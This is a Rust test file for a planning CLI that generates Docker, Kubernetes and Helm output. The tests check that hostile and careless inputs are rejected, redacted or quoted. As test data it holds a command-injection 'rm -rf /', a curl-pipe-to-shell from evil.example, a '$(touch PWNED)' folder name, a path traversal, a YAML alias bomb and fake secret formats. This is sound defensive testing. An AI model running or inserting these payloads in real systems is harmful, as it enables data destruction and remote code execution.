//! Hostile and careless inputs: nothing the user wrote is destroyed, no secret is repeated,
//! no name reaches Kubernetes, Helm or a shell in a form they would misread, and the
//! boundaries of the workspace hold. Each test reproduces a case that once exited 0.

use std::path::Path;

use crate::support::{Output, Test, Workspace, read_tree, repo_root};

const WEB_INPUT: &str = "specs/001-web-api/plan-input.md";

/// The nextjs-fastapi-pip test workspace (two components, a database, a constitution with
/// gates), without its committed output.
fn web_api() -> Workspace {
    let ws = Workspace::copy_of(repo_root().join("tests/workspaces/nextjs-fastapi-pip"));
    std::fs::remove_dir_all(ws.join("out")).ok();
    ws
}

fn append(ws: &Workspace, rel: &str, text: &str) {
    let old = ws.read(rel);
    ws.write(rel, format!("{old}\n{text}\n"));
}

// 1. Never destroy input.

#[test]
fn words_that_name_features_are_features_not_plan_input() {
    let ws = Workspace::example();
    let before = ws.files();
    let run = Test::new().workspace(&ws).args(["plan", "006", "004"]).run();
    run.assert_code(0).assert_stderr_contains("2 features");
    assert!(ws.exists("out/004-k8s-deployment/plan.md") && ws.exists("out/006-k8s-deployment/plan.md"));
    for (path, bytes) in before {
        assert_eq!(ws.files().get(&path), Some(&bytes), "{path} changed");
    }
}

#[test]
fn empty_text_never_empties_the_plan_input() {
    let ws = Workspace::example();
    let input = "specs/006-k8s-deployment/plan-input.md";
    let before = ws.read(input);
    for text in ["", "   "] {
        let run = Test::new().workspace(&ws).args(["plan", "006", text]).run();
        run.assert_code(2).assert_stderr_contains("is empty");
        assert_eq!(ws.read(input), before);
    }
}

#[test]
fn text_replaces_a_plan_input_only_when_asked_and_keeps_the_old_one() {
    let ws = Workspace::example();
    let input = "specs/006-k8s-deployment/plan-input.md";
    let before = ws.read(input);
    let run = Test::new()
        .workspace(&ws)
        .args(["plan", "006", "Backend: FastAPI, Python 3.13"])
        .run();
    run.assert_code(2).assert_stderr_contains("--replace-input");
    assert_eq!(ws.read(input), before);
    assert!(!ws.exists("out"), "a refused run compiled anyway");

    let run = Test::new()
        .workspace(&ws)
        .args(["plan", "006", "Backend: FastAPI, Python 3.13", "--replace-input"])
        .run();
    run.assert_stderr_contains("plan-input.md.bak");
    assert!(ws.read(input).contains("Backend: FastAPI, Python 3.13"));
    assert_eq!(ws.read("specs/006-k8s-deployment/plan-input.md.bak"), before);
}

#[test]
fn text_for_a_feature_without_plan_input_is_saved() {
    let ws = Workspace::fixture("no-plan-input");
    let run = Test::new()
        .workspace(&ws)
        .args(["plan", "001", "Backend: FastAPI, Python 3.13"])
        .run();
    run.assert_stderr_contains("saved specs/001-todo-list/plan-input.md");
    assert!(
        ws.read("specs/001-todo-list/plan-input.md")
            .contains("Backend: FastAPI")
    );
}

// 2. Secrets.

/// Secrets of every kind, and where each is planted. The values are built at run time so
/// this file holds none of them whole.
fn planted() -> Vec<(String, &'static str)> {
    vec![
        ("hunter2pw".to_string(), "url"),
        (format!("sk-proj-{}", "Zq81Xc4Vb7Nm0Lk2Jh5G"), "token"),
        (format!("AKIA{}", "Z7Q2M4X9B3K8L1P6"), "aws"),
        (format!("ghp_{}", "a1B2c3D4e5".repeat(4)), "github"),
        (
            format!(
                "eyJhbGciOiJIUzI1NiJ9.{}.{}",
                "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
            ),
            "jwt",
        ),
        ("MIIEowIBAAKCAQEAplanted".to_string(), "pem"),
        ("s3cr3t-Value-42".to_string(), "assignment"),
        ("c0lon-Value-77".to_string(), "colon"),
        ("setP4ssw0rd-99".to_string(), "set"),
        ("c0nst-S3cret-11".to_string(), "constitution"),
    ]
}

fn assert_no_secret(what: &str, text: &str) {
    for (value, kind) in planted() {
        assert!(!text.contains(&value), "the {kind} secret appears in {what}:\n{text}");
    }
}

#[test]
fn a_secret_in_any_input_fails_the_run_and_is_never_repeated() {
    let ws = web_api();
    let p = planted();
    let v = |kind: &str| p.iter().find(|(_, k)| *k == kind).unwrap().0.clone();
    append(
        &ws,
        WEB_INPUT,
        &format!(
            "- Testing: pytest against postgres://admin:{}@prod/app\n\nThe OpenAI key is {} and AWS uses {}.\n\nCI_DEPLOY_TOKEN={}\n\nDB_PASSWORD: {}\n",
            v("url"),
            v("token"),
            v("aws"),
            v("assignment"),
            v("colon")
        ),
    );
    append(
        &ws,
        "specs/001-web-api/spec.md",
        &format!(
            "- A session token looks like {}\n- The deploy bot uses {}\n\n```\n-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n```\n",
            v("jwt"),
            v("github"),
            v("pem")
        ),
    );
    append(&ws, "constitution.md", &format!("JWT_SECRET={}\n", v("constitution")));
    let set = format!("components.backend.config.API_PASSWORD={}", v("set"));

    let runs: Vec<(String, Output)> = [
        vec!["plan", "--all"],
        vec!["plan", "--all", "--format", "json"],
        vec!["plan", "--all", "--explain"],
        vec!["check", "--all"],
        vec!["check", "--all", "--format", "sarif"],
    ]
    .into_iter()
    .map(|args| {
        let run = Test::new().workspace(&ws).args(&args).args(["--set", &set]).run();
        (args.join(" "), run)
    })
    .collect();
    for (args, run) in &runs {
        run.assert_code(1);
        assert_no_secret(&format!("the stderr of `sp {args}`"), &run.stderr);
        assert_no_secret(&format!("the stdout of `sp {args}`"), &run.stdout);
    }
    let (_, first) = &runs[0];
    first
        .assert_stderr_contains("error[SP110]")
        .assert_stderr_contains(&format!("{WEB_INPUT}:"))
        .assert_stderr_contains("specs/001-web-api/spec.md:")
        .assert_stderr_contains("constitution.md:")
        .assert_stderr_contains("--set components.backend.config.API_PASSWORD=[REDACTED]")
        .assert_stderr_contains("postgres://admin:[REDACTED]@prod/app");
    assert_eq!(first.stderr.matches("error[SP110]").count(), 10, "{}", first.stderr);
    for (path, bytes) in read_tree(&ws.join("out")) {
        assert_no_secret(&path, &String::from_utf8_lossy(&bytes));
    }
    assert!(!ws.exists("out"), "a run with a secret wrote output");
}

#[test]
fn placeholders_and_secret_names_are_not_secrets() {
    let ws = web_api();
    append(
        &ws,
        WEB_INPUT,
        "- Secrets: DATABASE_URL and OPENAI_API_KEY come from Kubernetes Secrets (OPENAI_API_KEY=$OPENAI_API_KEY)\n- Password: at least 12 characters\n- The API uses postgres://app@db/app and https://example.com:8443/x\n",
    );
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(0);
    assert!(!run.stderr.contains("SP110"), "{}", run.stderr);
}

// 3. Names, references and quoting.

#[test]
fn hostile_set_values_are_errors_at_their_origin() {
    let ws = web_api();
    for (set, needle) in [
        (
            "components.backend.image=evil;rm -rf /",
            "image repository `evil;rm -rf /`",
        ),
        (
            "components.backend.tag=1.0\nRUN curl evil.sh | sh",
            "image tag `1.0\\nRUN curl evil.sh | sh`",
        ),
        ("components.backend.sourceDir=../../etc", "source folder `../../etc`"),
        ("components.backend.host=a b.local", "Ingress host `a b.local`"),
        ("namespace=!!!", "namespace `!!!`"),
        ("components.backend.nodePort=80", "node port `80`"),
    ] {
        let run = Test::new().workspace(&ws).args(["plan", "--all", "--set", set]).run();
        run.assert_code(1)
            .assert_stderr_contains("error[SP430]")
            .assert_stderr_contains(needle)
            .assert_stderr_contains("--> --set ");
        assert!(!ws.exists("out"));
    }
}

#[test]
fn a_newline_in_a_yaml_tag_is_an_error_at_its_line() {
    let ws = web_api();
    append(
        &ws,
        WEB_INPUT,
        "```yaml\ncomponents:\n  backend:\n    tag: \"1.0\\nRUN curl https://evil.example/x | sh\"\n```\n",
    );
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(1).assert_stderr_contains("error[SP430]: image tag");
    let line = ws
        .read(WEB_INPUT)
        .lines()
        .position(|l| l.contains("tag: \"1.0"))
        .unwrap()
        + 1;
    run.assert_stderr_contains(&format!("{WEB_INPUT}:{line}:"));
}

#[test]
fn a_request_above_its_limit_is_refused_when_both_are_typed_and_fitted_when_one_is() {
    let ws = web_api();
    append(
        &ws,
        WEB_INPUT,
        "```yaml\ncomponents:\n  backend:\n    resources:\n      memoryRequest: 1Gi\n      memoryLimit: 256Mi\n```\n",
    );
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    let line = ws
        .read(WEB_INPUT)
        .lines()
        .position(|l| l.contains("memoryRequest: 1Gi"))
        .unwrap()
        + 1;
    run.assert_code(1)
        .assert_stderr_contains(
            "error[SP430]: memoryRequest `1Gi` is above memoryLimit `256Mi`: the API server refuses a container that requests more than its limit",
        )
        .assert_stderr_contains(&format!("--> {WEB_INPUT}:{line}:"))
        .assert_stderr_contains("lower `memoryRequest` to at most `256Mi`, or raise `memoryLimit` to at least `1Gi`");
    assert!(!ws.exists("out"));

    // One side typed: the catalog's default of the other gives way, and the gates pass.
    let ws = web_api();
    append(
        &ws,
        WEB_INPUT,
        "```yaml\ncomponents:\n  backend:\n    resources:\n      cpuRequest: \"2\"\n      memoryLimit: 64Mi\n```\n",
    );
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(0);
    let deployment = ws.read("out/001-web-api/k8s/30-backend-deployment.yaml");
    assert!(
        deployment.contains("limits:\n            cpu: \"2\"\n            memory: 64Mi\n          requests:\n            cpu: \"2\"\n            memory: 64Mi\n"),
        "{deployment}"
    );
}

#[test]
fn a_second_deployment_block_is_refused_not_ignored() {
    let ws = web_api();
    append(
        &ws,
        WEB_INPUT,
        "```yaml\nnamespace: shop\n```\n\nAn example of a client config:\n\n```yaml\nretries: 3\n```\n\n```yaml\ncomponents:\n  backend:\n    port: 9000\n```\n",
    );
    let text = ws.read(WEB_INPUT);
    let fence = |nth: usize| {
        text.lines()
            .enumerate()
            .filter(|(_, l)| l.starts_with("```yaml"))
            .nth(nth)
            .unwrap()
            .0
            + 1
    };
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(1)
        .assert_stderr_contains(&format!(
            "error[SP406]: a second deployment block (`components`) is not read: sp reads the first ```yaml block (line {}) only",
            fence(0)
        ))
        .assert_stderr_contains(&format!("--> {WEB_INPUT}:{}:1", fence(2)))
        .assert_stderr_contains(&format!("move `components` into the ```yaml block at {WEB_INPUT}:{}", fence(0)))
        .assert_stderr_contains("info[SP406]: this ```yaml block is not read")
        .assert_stderr_contains(&format!("--> {WEB_INPUT}:{}:1", fence(1)));
    assert!(!ws.exists("out"));
}

#[test]
fn human_component_names_are_normalized_with_a_note() {
    let ws = web_api();
    append(
        &ws,
        WEB_INPUT,
        "```yaml\ncomponents:\n  Bad_Name:\n    role: worker\n    stack: python-worker\n    sourceDir: api\n```\n",
    );
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(0)
        .assert_stderr_contains("info[SP431]: component name `Bad_Name` is written `bad-name`");
    let files = read_tree(&ws.join("out/001-web-api"));
    for (path, bytes) in &files {
        let text = String::from_utf8_lossy(bytes);
        assert!(!text.contains("Bad_Name"), "{path} says Bad_Name");
        if path.starts_with("k8s/") {
            for line in text.lines() {
                if let Some(name) = line.trim().strip_prefix("name: ") {
                    let name = name.trim_matches('"');
                    assert!(
                        name.len() <= 253
                            && name.bytes().all(|b| b.is_ascii_lowercase()
                                || b.is_ascii_digit()
                                || b == b'-'
                                || b == b'.'
                                || b == b'_'
                                || b.is_ascii_uppercase()),
                        "{path}: {line}"
                    );
                }
            }
        }
    }
    assert!(files.keys().any(|p| p.contains("bad-name")), "{:?}", files.keys());
}

#[test]
fn a_long_application_name_never_makes_a_release_name_helm_refuses() {
    let ws = web_api();
    let long = "a".repeat(30) + " " + &"b".repeat(32);
    let constitution = ws.read("constitution.md");
    let first = constitution.lines().next().unwrap().to_string();
    ws.write(
        "constitution.md",
        constitution.replacen(&first, &format!("# {long} Constitution"), 1),
    );
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(0);
    let charts: Vec<String> = read_tree(&ws.join("out/001-web-api/helm"))
        .keys()
        .filter_map(|p| p.strip_suffix("/Chart.yaml").map(str::to_string))
        .collect();
    assert_eq!(charts.len(), 1, "{charts:?}");
    assert!(
        charts[0].len() <= 53,
        "release name {} has {} characters",
        charts[0],
        charts[0].len()
    );

    // Given as the application's name, it is refused where it is written.
    let run = Test::new()
        .workspace(&ws)
        .args(["plan", "--all", "--set", &format!("app={}", "c".repeat(63))])
        .run();
    run.assert_code(1).assert_stderr_contains("at most 53 characters");
}

#[test]
fn shell_commands_quote_a_hostile_feature_folder() {
    let ws = web_api();
    let hostile = "001-x;$(touch PWNED)";
    std::fs::rename(ws.join("specs/001-web-api"), ws.join("specs").join(hostile)).unwrap();
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(0);
    let out = ws.join("out").join(hostile);
    let quickstart = std::fs::read_to_string(out.join("quickstart.md")).unwrap();
    let contracts = std::fs::read_to_string(out.join("contracts/docker-images.yaml")).unwrap();
    assert!(
        quickstart.contains("docker build -f 'out/001-x;$(touch PWNED)/docker/"),
        "{quickstart}"
    );
    assert!(contracts.contains("docker build -f '"), "{contracts}");

    // Every command line that names the folder runs harmlessly, with stub tools.
    let stubs = ws.join("stubs");
    std::fs::create_dir_all(&stubs).unwrap();
    for tool in ["docker", "kubectl", "helm", "minikube", "kind", "hadolint"] {
        let path = stubs.join(tool);
        std::fs::write(&path, "#!/bin/sh\nexit 0\n").unwrap();
        make_executable(&path);
    }
    let mut commands: Vec<String> = quickstart.lines().map(|l| l.trim().to_string()).collect();
    let yaml: serde_json::Value = sp::yaml::from_str(&contracts).unwrap();
    strings(&yaml, &mut commands);
    let mut ran = 0;
    for line in commands {
        let tools = ["docker ", "kubectl ", "helm ", "minikube ", "hadolint "];
        if !line.contains("PWNED") || !tools.iter().any(|t| line.starts_with(t)) {
            continue;
        }
        let status = std::process::Command::new("sh")
            .arg("-c")
            .arg(&line)
            .current_dir(ws.path())
            .env("PATH", format!("{}:/usr/bin:/bin", stubs.display()))
            .status()
            .unwrap();
        assert!(status.success(), "{line}");
        ran += 1;
    }
    assert!(ran >= 3, "only {ran} commands name the folder");
    assert!(
        !ws.exists("PWNED"),
        "a generated command ran the folder name as a command"
    );
}

/// Every string in a JSON value.
fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|v| strings(v, out)),
        serde_json::Value::Object(o) => o.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

#[cfg(unix)]
fn make_executable(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[cfg(not(unix))]
fn make_executable(_: &Path) {}

// 5. Boundaries.

#[test]
fn a_byte_order_mark_changes_nothing() {
    let ws = Workspace::example();
    let plain = Test::new().workspace(&ws).args(["plan", "006", "--explain"]).run();
    plain.assert_code(0);
    let constitution = ws.read("constitution.md");
    ws.write("constitution.md", format!("\u{feff}{constitution}"));
    let bom = Test::new().workspace(&ws).args(["plan", "006", "--explain"]).run();
    bom.assert_code(0);
    assert!(!bom.stdout.contains("sync-impact-report"), "{}", bom.stdout);
    assert_eq!(plain.stdout, bom.stdout);
}

#[test]
fn nul_bytes_are_refused_with_a_diagnostic() {
    let ws = Workspace::fixture("clean-minimal");
    let spec = ws.read("specs/001-todo-list/spec.md");
    ws.write("specs/001-todo-list/spec.md", spec.replacen("\n", "\n\0\0\n", 3));
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(1)
        .assert_stderr_contains("error[SP111]: NUL byte at line 2");
    assert!(!ws.exists("out"));
}

#[cfg(unix)]
#[test]
fn a_symlink_out_of_the_workspace_is_not_followed_or_printed() {
    let outside = Workspace::new();
    outside.write("private.txt", "root:x:0:0:PRIVATE-FIRST-LINE\n");
    let ws = Workspace::fixture("clean-minimal");
    std::fs::remove_file(ws.join("specs/001-todo-list/spec.md")).unwrap();
    std::os::unix::fs::symlink(outside.join("private.txt"), ws.join("specs/001-todo-list/spec.md")).unwrap();
    let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
    run.assert_code(1).assert_stderr_contains("error[SP112]");
    assert!(!run.stderr.contains("PRIVATE-FIRST-LINE"), "{}", run.stderr);
    assert!(!run.stdout.contains("PRIVATE-FIRST-LINE"));
}

#[test]
fn out_is_refused_at_the_root_among_inputs_and_outside_by_a_relative_path() {
    let ws = Workspace::fixture("clean-minimal");
    for out in ["/", "specs", "../elsewhere", "."] {
        let run = Test::new().workspace(&ws).args(["plan", "--all", "--out", out]).run();
        run.assert_code(2).assert_stderr_contains(&format!("--out {out}:"));
    }
    assert!(!ws.exists("specs/001-todo-list/plan.md"));
    // An absolute folder of the user's choosing is fine.
    let elsewhere = Workspace::new();
    let run = Test::new()
        .workspace(&ws)
        .args(["plan", "--all", "--out"])
        .arg(elsewhere.join("out"))
        .run();
    run.assert_code(0);
    assert!(elsewhere.exists("out/001-todo-list/plan.md"));
}

#[test]
fn a_workspace_without_features_fails_check_and_all() {
    let ws = Workspace::new();
    ws.write("specs/.keep", "");
    ws.write("constitution.md", "# X Constitution\n");
    for args in [
        vec!["plan", "--all"],
        vec!["plan", "--all", "--check"],
        vec!["check", "--all"],
    ] {
        let run = Test::new().workspace(&ws).args(&args).run();
        run.assert_code(2).assert_stderr_contains("no feature folders");
    }
}

#[test]
fn a_repeated_set_key_is_an_error() {
    let ws = web_api();
    let run = Test::new()
        .workspace(&ws)
        .args([
            "plan",
            "--all",
            "--set",
            "components.backend.port=8081",
            "--set",
            "components.backend.port=8000",
        ])
        .run();
    run.assert_code(1)
        .assert_stderr_contains("`components.backend.port` is set twice");
    assert!(!ws.exists("out"));
}

// 7. Messages users can act on.

#[test]
fn yaml_errors_speak_the_users_words_with_their_place() {
    let bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]\n";
    for (block, says) in [
        (
            "components:\n  backend:\n    port: 8000\n    port: 8001\n",
            "the key `port` is written twice in the same map; keep one",
        ),
        (bomb, "too many values"),
    ] {
        let ws = web_api();
        append(&ws, WEB_INPUT, &format!("```yaml\n{block}```\n"));
        let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
        run.assert_code(1)
            .assert_stderr_contains(says)
            .assert_stderr_contains(&format!("--> {WEB_INPUT}:"));
        for internal in ["DuplicateKeyPolicy", "Options", "budget breached", "Nodes {"] {
            assert!(!run.stderr.contains(internal), "{internal}:\n{}", run.stderr);
        }
    }
}

#[test]
fn explain_documents_every_code_and_check_in_full() {
    let list = Test::new().args(["explain"]).run();
    list.assert_code(0);
    let codes: Vec<&str> = list
        .stdout
        .lines()
        .filter_map(|l| l.split_whitespace().next())
        .filter(|w| {
            (w.starts_with("SP") || w.starts_with('S'))
                && w[1..].trim_start_matches('P').chars().all(|c| c.is_ascii_digit())
        })
        .collect();
    assert!(codes.len() > 40, "{codes:?}");
    for code in codes {
        let run = Test::new().args(["explain", code]).run();
        run.assert_code(0);
        for part in ["\nWhy\n", "\nExample\n", "\nFix\n"] {
            run.assert_stdout_contains(part);
        }
        assert!(
            run.stdout.len() > 200,
            "`sp explain {code}` is too short:\n{}",
            run.stdout
        );
    }
}

#[test]
fn help_names_what_sp_generates_and_every_flag_is_explained() {
    let run = Test::new().args(["--help"]).run();
    run.assert_code(0);
    for word in [
        "plan.md",
        "Dockerfiles",
        "Kubernetes manifests",
        "Helm chart",
        "contracts",
    ] {
        run.assert_stdout_contains(word);
    }
    for sub in ["plan", "check", "explain", "schema"] {
        let run = Test::new().args([sub, "--help"]).run();
        run.assert_code(0);
        // clap prints a flag without help text as a bare line: `  --flag`.
        let mut lines = run.stdout.lines().peekable();
        while let Some(line) = lines.next() {
            let t = line.trim_start();
            if t.starts_with('-') && !t.contains("  ") {
                let next = lines.peek().map(|l| l.trim()).unwrap_or("");
                assert!(
                    !next.is_empty() && !next.starts_with('-'),
                    "`sp {sub} --help`: `{t}` has no help text"
                );
            }
        }
    }
}
